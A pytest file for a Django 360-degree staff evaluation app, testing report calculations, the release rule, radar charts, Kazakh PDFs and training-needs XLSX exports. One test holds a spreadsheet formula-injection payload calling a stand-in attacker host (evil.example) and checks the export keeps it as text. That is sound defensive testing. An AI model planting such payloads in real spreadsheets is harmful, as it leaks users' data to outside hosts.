"""Reports (App. 7/8): the numbers equal `bagalau calc sjc-2023 survey360` on the same answers,
the release rule (closed and at least 3 responses), the page with its radar chart, the PDF with
Kazakh glyphs, and the training needs with their XLSX (p.36)."""

from __future__ import annotations

import io
import json
import random
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse

from bagalau.methodology.calc import run
from bagalau.surveys import reports, training
from bagalau.surveys.forms import field_name
from bagalau.surveys.models import Invitation
from tests.documents.conftest import pdf_fonts, pdf_text
from tests.surveys.conftest import AFTER, answers, form_codes, questionnaire_url


def calc(form: str, responses: list[tuple[str, dict]]) -> dict:
    request = {"form": form, "responses": [{"role": r, "answers": a} for r, a in responses]}
    code, out = run("sjc-2023", "survey360", json.dumps(request))
    assert code == 0, out
    return json.loads(out)


def web_submit(user, invitation_id: int, given: dict) -> None:
    client = Client()
    client.force_login(user)
    data = {"confirm": "1"}
    for code, values in given.items():
        for index, value in enumerate(values):
            data[field_name(code, index)] = str(value)
    invitation = Invitation.objects.get(pk=invitation_id)
    response = client.post(questionnaire_url(client, invitation), data)
    assert response.status_code == 302, response.content.decode()[:2000]


def api_submit(user, invitation_id: int, given: dict) -> None:
    client = Client()
    client.force_login(user)
    invitation = Invitation.objects.get(pk=invitation_id)
    response = client.post(
        questionnaire_url(client, invitation, api=True, suffix="submit/"),
        {"answers": given},
        content_type="application/json",
    )
    assert response.status_code == 200, response.content


def api_report(user, target_id: int) -> dict:
    client = Client()
    client.force_login(user)
    response = client.get(f"/api/v1/surveys/reports/{target_id}/")
    assert response.status_code == 200, response.content
    return response.json()


def test_report_numbers_equal_the_calculator_on_the_same_answers(survey, world):
    """a_head (App. 5, 12 competencies): five respondents, two through the web page, three through
    the API; the self-assessment through the API."""
    survey.open()
    rng = random.Random(2026)
    target = survey.target("a_head")
    given = {}
    for key in ("deputy", "a_staff1", "a_staff2", "b_head", "hr_head"):
        given[key] = {code: [rng.randint(1, 5) for _ in range(3)] for code in form_codes("manager")}
    for key in ("deputy", "a_staff1"):
        web_submit(survey.user(key), survey.invitation(key, "a_head").pk, given[key])
    for key in ("a_staff2", "b_head", "hr_head"):
        api_submit(survey.user(key), survey.invitation(key, "a_head").pk, given[key])
    own = {code: [rng.randint(1, 5) for _ in range(3)] for code in form_codes("manager")}
    client = Client()
    client.force_login(world.a_head_user)
    response = client.post(
        f"/api/v1/surveys/self/{target.pk}/submit/",
        {"answers": own},
        content_type="application/json",
    )
    assert response.status_code == 200, response.content
    survey.clock(AFTER)
    survey.close()

    expected = calc("manager", [("peer", a) for a in given.values()] + [("self", own)])
    report = api_report(world.a_head_user, target.pk)
    assert report["released"] is True
    assert report["competencies"] == expected["competencies"]
    assert report["self"] == expected["self"]
    assert report["overall"] == expected["overall"]
    assert report["lowest"] == expected["lowest"]
    assert report["respondents"] == expected["respondents"] == 5

    # The page shows the same numbers.
    page = client.get(reverse("surveys:report", args=[target.pk])).content.decode()
    for code, value in expected["competencies"].items():
        assert f'data-code="{code}"' in page
        assert value in page
    assert f'data-testid="overall">{expected["overall"]}<' in page


@pytest.mark.parametrize("seed", [1, 2, 3, 4, 5, 6])
def test_staff_reports_equal_the_calculator_for_random_answers(survey, world, seed):
    """a_staff1 (App. 6): 3 respondents with random answers (ties included), with or without a
    self-assessment."""
    survey.open()
    rng = random.Random(seed)
    given = []
    for key in ("a_head", "a_staff2", "b_staff1"):
        values = {code: [rng.choice([3, 4, 5]) for _ in range(3)] for code in form_codes("staff")}
        survey.submit(key, "a_staff1", values)
        given.append(("manager" if key == "a_head" else "peer", values))
    if seed % 2:
        own = answers("staff", seed=seed)
        survey.self_assess("a_staff1", own)
        given.append(("self", own))
    survey.close()
    target = survey.target("a_staff1")
    expected = calc("staff", given)
    result = reports.report_for(target).result
    assert result is not None
    assert {c: str(v) for c, v in result.competencies.items()} == expected["competencies"]
    assert (
        None
        if result.self_assessment is None
        else {c: str(v) for c, v in result.self_assessment.items()}
    ) == expected["self"]
    assert str(result.overall) == expected["overall"]
    assert list(result.lowest) == expected["lowest"]
    assert result.respondents == expected["respondents"]


# --- the release rule (p.35) ---------------------------------------------------------------------


def test_withheld_while_open_and_with_fewer_than_three(survey, world):
    survey.open()
    survey.submit("a_head", "a_staff1", 4)
    survey.submit("a_staff2", "a_staff1", 4)
    survey.submit("b_staff1", "a_staff1", 4)
    target = survey.target("a_staff1")
    report = reports.report_for(target)
    assert (report.released, report.reason) == (False, reports.NOT_CLOSED)
    survey.submit("a_head", "a_staff2", 4)
    survey.submit("a_staff1", "a_staff2", 4)
    survey.close()
    assert reports.report_for(survey.target("a_staff1")).released is True
    withheld = reports.report_for(survey.target("a_staff2"))
    assert (withheld.released, withheld.reason, withheld.responses) == (
        False,
        reports.TOO_FEW,
        2,
    )
    assert withheld.result is None
    assert withheld.rows == []


def test_the_withheld_report_page_says_why(closed, client):
    w = closed.w
    target = closed.survey.target("hr_staff")
    client.force_login(w.hr_staff_user)
    page = client.get(reverse("surveys:report", args=[target.pk])).content.decode()
    assert "The report is withheld" in page
    assert "Fewer than 3 colleagues answered" in page
    assert "Responses received" not in page  # the count is HR's
    client.force_login(w.hr_head_user)
    page = client.get(reverse("surveys:report", args=[target.pk])).content.decode()
    assert "Responses received: 1." in page
    response = client.get(reverse("surveys:report_pdf", args=[target.pk]))
    assert response.status_code == 302


def test_hr_is_told_why_a_report_is_withheld(closed, client):
    client.force_login(closed.w.hr_staff_user)
    page = client.get(reverse("surveys:campaign", args=[closed.campaign.pk])).content.decode()
    section = page.split('data-testid="withheld"')[1].split("</section>")[0]
    assert "Сектор Мадина" in section
    assert "only 1 responses of the 3 needed" in section


# --- the page, the chart, the PDF ----------------------------------------------------------------


def test_report_page_has_table_self_lowest_and_radar(closed, client):
    w = closed.w
    target = closed.survey.target("a_staff1")
    client.force_login(w.a_staff1_user)
    page = client.get(reverse("surveys:report", args=[target.pk])).content.decode()
    report = reports.report_for(target, language="kk")
    assert "Қызметшіні 360 әдісімен бағалау нәтижесі" in page or "360" in page
    assert page.count('class="survey-lowest"') == 3
    assert '<svg xmlns="http://www.w3.org/2000/svg" class="radar"' in page
    assert "<title id=" in page
    assert page.count("<polygon") == 5 + 2  # 5 rings, others and self
    for row in report.rows:
        assert str(row.others) in page
    assert report.result is not None
    assert report.result.self_assessment is not None
    assert 'data-testid="report-pdf"' in page


def test_report_pdf_prints_app_8_in_kazakh_with_embedded_fonts(closed, client):
    w = closed.w
    target = closed.survey.target("a_staff1")
    client.force_login(w.a_head_user)
    response = client.get(reverse("surveys:report_pdf", args=[target.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Cache-Control"] == "private, no-store"
    text = pdf_text(response.content)
    report = reports.report_for(target, language="kk")
    assert "8-қосымша" in text
    assert "Қызметшіні 360 градус әдісімен бағалау нәтижелері" in text or "360" in text
    assert "Бекова Айгүл" in text
    assert "Өзін-өзі бағалау" in text
    assert "Паутинка" in text
    for row in report.rows:
        assert str(row.others) in text
    assert report.result is not None
    assert str(report.result.overall) in text
    fonts = pdf_fonts(response.content)
    assert fonts
    assert all(fonts.values())
    assert any("DejaVu" in name for name in fonts)


def test_report_pdf_in_russian(closed, client):
    target = closed.survey.target("a_head")
    client.force_login(closed.w.hr_head_user)
    response = client.get(reverse("surveys:report_pdf", args=[target.pk]) + "?lang=ru")
    text = pdf_text(response.content)
    assert "Приложение 7" in text
    assert "Самооценка" in text


# --- training needs (p.36) -----------------------------------------------------------------------


def test_training_needs_count_the_lowest_three_per_unit(closed, client):
    campaign = closed.campaign
    needs = training.training_needs(campaign, language="en")
    released = [t for t in campaign.targets.all() if reports.report_for(t).released]
    assert needs.released == len(released) == 7
    assert needs.withheld == 1
    expected: dict[tuple[str, int], int] = {}
    for target in released:
        result = reports.report_for(target).result
        assert result is not None
        for code in result.lowest:
            expected[(code, target.unit_id)] = expected.get((code, target.unit_id), 0) + 1
    for row in needs.rows:
        for unit, count in zip(needs.units, row.counts, strict=True):
            assert count == expected.get((row.code, unit.pk), 0)
    assert sum(row.total for row in needs.rows) == 3 * 7
    assert len(needs.rows) == 12

    client.force_login(closed.w.hr_head_user)
    page = client.get(reverse("surveys:training", args=[campaign.pk]))
    assert page.status_code == 200
    response = client.get(reverse("surveys:training_xlsx", args=[campaign.pk]))
    assert response.status_code == 200
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(response.content))
    sheet = book.active
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    header = next(r for r in rows if r and r[0] in ("Competency", "Құзырет", "Компетенция"))
    assert len(header) == len(needs.units) + 2
    body = rows[rows.index(header) + 1 :]
    assert [r[-1] for r in body] == [row.total for row in needs.rows]


def test_decimal_places_are_two(closed):
    report = reports.report_for(closed.survey.target("a_head"))
    assert report.result is not None
    for value in report.result.competencies.values():
        assert value == value.quantize(Decimal("0.01"))
        assert len(str(value).split(".")[1]) == 2


def test_a_unit_named_like_a_formula_is_text_in_the_training_xlsx(closed):
    """Issue 8, item 6: a unit named =HYPERLINK(...) stays text in the XLSX."""
    import zipfile

    from openpyxl import load_workbook

    from bagalau.org.models import Unit

    hostile = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
    unit = closed.survey.target("a_staff1").unit
    Unit.objects.filter(pk=unit.pk).update(name_kk=hostile, name_ru=hostile, name_en=hostile)
    client = Client()
    client.force_login(closed.w.hr_head_user)
    content = client.get(reverse("surveys:training_xlsx", args=[closed.campaign.pk])).content
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    cells = [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]
    found = [c for c in cells if c.value == hostile]
    assert len(found) == 1
    assert found[0].data_type == "s"
    assert found[0].quotePrefix is True
